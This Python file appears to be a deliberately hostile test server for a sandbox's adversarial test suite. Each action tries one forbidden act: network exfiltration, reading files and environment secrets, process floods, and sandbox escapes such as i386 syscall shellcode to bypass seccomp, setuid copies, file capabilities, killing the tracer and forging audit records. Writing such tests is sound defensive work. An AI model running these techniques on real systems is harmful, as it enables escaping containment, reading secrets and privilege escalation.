"""A hostile 'server' for the sandbox tests: it tries one forbidden thing, named by its first
argument, and prints what happened as one JSON line (it never does harm outside a sandbox that
works: the fork test stops at 200 processes and kills those it started once counted)."""

import json
import os
import socket
import subprocess
import sys
import urllib.request


def attempt(argv: list[str]) -> dict:
    """The attempt ``argv`` names (its action, then its arguments)."""
    action = argv[0]
    if action == "series":  # several attempts in one run, each as if alone: [[action, *args], ...]
        outcomes = [attempt([str(part) for part in each]) for each in json.loads(argv[1])]
        return {"ok": any(outcome["ok"] for outcome in outcomes), "outcomes": outcomes}
    if action == "connect":
        try:
            with urllib.request.urlopen(argv[1], timeout=10) as response:  # noqa: S310
                return {"ok": True, "status": response.status, "body": response.read().decode()[:200]}
        except Exception as exc:  # noqa: BLE001
            return {"ok": False, "error": str(exc)}
    if action == "direct":
        try:
            socket.create_connection((argv[1], int(argv[2])), timeout=5).close()
            return {"ok": True}
        except OSError as exc:
            return {"ok": False, "error": str(exc)}
    if action == "udp":
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
                udp.sendto(b"exfiltrated", (argv[1], int(argv[2])))
            return {"ok": True}
        except OSError as exc:
            return {"ok": False, "error": str(exc)}
    if action == "dns":
        try:
            return {"ok": True, "addresses": [a[4][0] for a in socket.getaddrinfo(argv[1], 443)]}
        except OSError as exc:
            return {"ok": False, "error": str(exc)}
    if action == "read":
        try:
            with open(os.path.expanduser(argv[1])) as handle:
                return {"ok": True, "content": handle.read()[:100]}
        except OSError as exc:
            return {"ok": False, "error": str(exc)}
    if action == "env":
        value = os.environ.get(argv[1], "")
        # Only a digest of the value leaves, so a test can compare without printing a secret.
        import hashlib

        return {
            "ok": argv[1] in os.environ,
            "names": sorted(os.environ),
            "sha256": hashlib.sha256(value.encode()).hexdigest(),
        }
    if action == "write":
        try:
            with open(os.path.expanduser(argv[1]), "w") as handle:
                handle.write("pwned")
            return {"ok": True}
        except OSError as exc:
            return {"ok": False, "error": str(exc)}
    if action == "spawn":  # hold this many processes (with --hold, until standard input closes)
        for _ in range(int(argv[1])):
            _HELD.append(subprocess.Popen(["sleep", "20"], stdout=subprocess.DEVNULL))
        return {"ok": True, "started": len(_HELD)}
    if action == "fork":
        children: list[subprocess.Popen[bytes]] = []
        try:
            for _ in range(200):
                children.append(subprocess.Popen(["sleep", "30"], stdout=subprocess.DEVNULL))
        except OSError as exc:
            return {"ok": False, "started": len(children), "error": str(exc)}
        finally:  # counted: the sandbox need not wait 30 s for them
            for child in children:
                child.kill()
                child.wait()
        return {"ok": True, "started": len(children)}
    if action in ESCAPES:
        try:
            return ESCAPES[action](*argv[1:])
        except OSError as exc:
            return {"ok": False, "error": str(exc)}
    return {"ok": False, "error": f"unknown action {action}"}


# Escapes tried against the sandbox's kernel boundary (tests/adversarial/test_sandbox_escape.py):
# each returns {"ok": True, ...} only when the forbidden thing was done.


def _mptcp(host: str, port: str) -> dict:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as mptcp:  # IPPROTO_MPTCP
        mptcp.settimeout(5)
        mptcp.connect((host, int(port)))
        mptcp.sendall(b"mptcp-escape")
    return {"ok": True}


def _fastopen(host: str, port: str) -> dict:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as tcp:
        tcp.settimeout(5)
        tcp.sendto(b"fastopen-escape", 0x20000000, (host, int(port)))  # MSG_FASTOPEN: connects
    return {"ok": True}


def _packet() -> dict:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)) as raw:
        raw.bind(("lo", 0))
        raw.send(b"\xff" * 12 + b"\x88\xb5" + b"packet-escape".ljust(46, b"\0"))
    return {"ok": True}


def _unix(path: str) -> dict:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
        unix.settimeout(5)
        unix.connect(path.replace("@", "\0", 1) if path.startswith("@") else path)
        unix.sendall(b"unix-escape")
    return {"ok": True}


def _unix_datagram(path: str) -> dict:
    """A datagram pair needs no socket(): its end sends to any named socket it is given."""
    first, second = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with first, second:
        first.sendto(b"unix-escape", path)
    return {"ok": True}


def _environ(pid: str) -> dict:
    with open(f"/proc/{pid}/environ", "rb") as handle:
        return {"ok": True, "length": len(handle.read())}


def _kill(pid: str) -> dict:
    os.kill(int(pid), 15)
    return {"ok": True}


def _capabilities() -> dict:
    with open("/proc/self/status") as status:
        fields = dict(line.split(":", 1) for line in status if ":" in line)
    effective, bounding = int(fields["CapEff"], 16), int(fields["CapBnd"], 16)
    return {"ok": bool(effective or bounding), "effective": hex(effective), "bounding": hex(bounding)}


def _io_uring() -> dict:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    params = ctypes.create_string_buffer(120)
    descriptor = libc.syscall(425, 4, params)  # io_uring_setup (x86_64 and aarch64 alike)
    if descriptor < 0:
        return {"ok": False, "error": os.strerror(ctypes.get_errno())}
    os.close(descriptor)
    return {"ok": True}


def _i386_datagram() -> dict:
    """socket(AF_INET, SOCK_DGRAM) through the i386 entry (int 0x80), where a filter that looks
    only at x86_64 numbers sees another architecture. In a child: a filter may kill it."""
    code = (
        "import ctypes, mmap\n"
        "page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
        # push rbx; mov eax, 359 (socket); mov ebx, 2; mov ecx, 2; xor edx, edx; int 0x80; pop rbx;
        # movsxd rax, eax; ret
        "page.write(bytes.fromhex('53b867010000bb02000000b90200000031d2cd805b4863c0c3'))\n"
        "address = ctypes.addressof(ctypes.c_char.from_buffer(page))\n"
        "print(ctypes.CFUNCTYPE(ctypes.c_long)(address)())\n"
    )
    child = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=30, check=False)
    result = child.stdout.decode().strip()
    return {"ok": child.returncode == 0 and result.isdigit(), "result": result, "status": child.returncode}


def _setuid_copy(path: str) -> dict:
    """A root-owned setuid copy of a program in the server's own home (kept between runs)."""
    import shutil

    target = os.path.expanduser(path)
    shutil.copy("/usr/bin/id", target)
    os.chmod(target, 0o4755)  # noqa: S103 - the attack
    return {"ok": bool(os.stat(target).st_mode & 0o4000)}


def _setgid_directory(path: str) -> dict:
    target = os.path.expanduser(path)
    os.makedirs(target, exist_ok=True)
    os.chmod(target, 0o2777)  # noqa: S103 - the attack
    return {"ok": bool(os.stat(target).st_mode & 0o2000)}


def _forge(kind: str, count: str) -> dict:
    """Records of the sandbox's reporting channel, forged: sent as the bridge sends them, to the
    egress proxy (the way out the server is given), ``count`` times (bounded by the caller)."""
    port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
    line = {"dns": "MCPWARD-DNS forged.attacker.example HTTP/1.1\r\n\r\n",
            "file": 'MCPWARD-FILE {"operation": "read", "call": "open", "path": "/etc/hostname", '
                    '"error": "EACCES"} HTTP/1.1\r\n\r\n'}[kind]  # fmt: skip
    for _ in range(int(count)):
        with socket.create_connection(("127.0.0.1", port), timeout=5) as channel:
            channel.sendall(line.encode())
            channel.recv(100)
    return {"ok": True}


def _same_port(address: str) -> dict:
    """Landlock rules a port, not an address: the proxy's port on another host. The port is
    printed first; the test then listens there and says go (a line on standard input)."""
    port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
    print(json.dumps({"port": port}), flush=True)
    sys.stdin.readline()
    with socket.create_connection((address, port), timeout=5) as tcp:
        tcp.sendall(b"same-port-escape")
    return {"ok": True}


def _listen() -> dict:
    """A listening socket needs no bind() (listen() picks a port, on every address): an inbound
    channel. The port is printed first; one connection is awaited, bounded."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.listen(1)
        print(json.dumps({"port": listener.getsockname()[1]}), flush=True)
        listener.settimeout(3)
        connection, _ = listener.accept()
        with connection:
            connection.sendall(b"listen-escape")
    return {"ok": True}


def _forge_trace() -> dict:
    """A trace line of its own, written to every descriptor it inherited beyond the standard
    ones (the tracer's output pipe, if the server holds it)."""
    line = b'1 openat(AT_FDCWD, "/etc/hostname", O_RDONLY) = -1 EACCES (Permission denied)\n'
    written = 0
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2:
            try:
                os.write(int(name), line)
                written += 1
            except OSError:
                continue
    return {"ok": written > 0, "written": written}


def _stop_tracer() -> dict:
    """Kill its parent (the tracer, under a namespace backend), then go on untraced."""
    import signal
    import time

    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(2)
    return _write(os.path.expanduser("~/after-the-tracer"))


def _write(path: str) -> dict:
    with open(path, "w") as handle:
        handle.write("untraced")
    return {"ok": True}


def _dns_flood(count: str) -> dict:
    """``count`` DNS queries for distinct names, each its own record if nothing bounds them."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(1)
        for number in range(int(count)):
            label = f"flood{number}".encode()
            query = (
                b"\x12\x34\x01\x00\x00\x01"
                + bytes(6)
                + bytes([len(label)])
                + label
                + b"\x07example\x00\x00\x01\x00\x01"
            )
            udp.sendto(query, ("127.0.0.1", 53))
            try:
                udp.recv(512)
            except OSError:
                continue
    return {"ok": True}


def _shared_memory(key: str) -> dict:
    """A host process's System V shared memory (no IPC namespace of its own under Landlock)."""
    import ctypes
    import hashlib

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(int(key), 0, 0)
    if segment < 0:
        return {"ok": False, "error": os.strerror(ctypes.get_errno())}
    address = libc.shmat(segment, None, 0o10000)  # SHM_RDONLY
    if address in (None, ctypes.c_void_p(-1).value):
        return {"ok": False, "error": os.strerror(ctypes.get_errno())}
    return {"ok": True, "sha256": hashlib.sha256(ctypes.string_at(address, 32)).hexdigest()}


def _user_namespace() -> dict:
    """A user namespace of its own: every capability there (file capabilities on what it can
    write, mounts of its own)."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000) != 0:  # CLONE_NEWUSER
        return {"ok": False, "error": os.strerror(ctypes.get_errno())}
    return {"ok": True}


def _file_capability(path: str) -> dict:
    """A program in its home with a file capability (CAP_NET_RAW), which holds for whoever
    runs it on the host, like a setuid bit."""
    import shutil
    import struct

    target = os.path.expanduser(path)
    shutil.copy("/usr/bin/id", target)
    # struct vfs_cap_data, revision 2, effective: permitted CAP_NET_RAW (13).
    os.setxattr(target, "security.capability", struct.pack("<5I", 0x02000001, 1 << 13, 0, 0, 0))
    return {"ok": True}


ESCAPES = {
    "file-capability": _file_capability,
    "user-namespace": _user_namespace,
    "shared-memory": _shared_memory,
    "dns-flood": _dns_flood,
    "forge-trace": _forge_trace,
    "stop-tracer": _stop_tracer,
    "same-port": _same_port,
    "listen": _listen,
    "mptcp": _mptcp,
    "fastopen": _fastopen,
    "packet": _packet,
    "unix": _unix,
    "unix-datagram": _unix_datagram,
    "environ": _environ,
    "kill": _kill,
    "capabilities": _capabilities,
    "io_uring": _io_uring,
    "i386-datagram": _i386_datagram,
    "setuid-copy": _setuid_copy,
    "setgid-directory": _setgid_directory,
    "forge": _forge,
}


#: Processes "spawn" holds: ended with the server, so the sandbox need not wait out their sleep.
_HELD: list[subprocess.Popen[bytes]] = []

print(json.dumps(attempt(sys.argv[1:])), flush=True)
if "--hold" in sys.argv:  # stay up until standard input closes, as a server does
    sys.stdin.read()
for _process in _HELD:
    _process.kill()
    _process.wait()
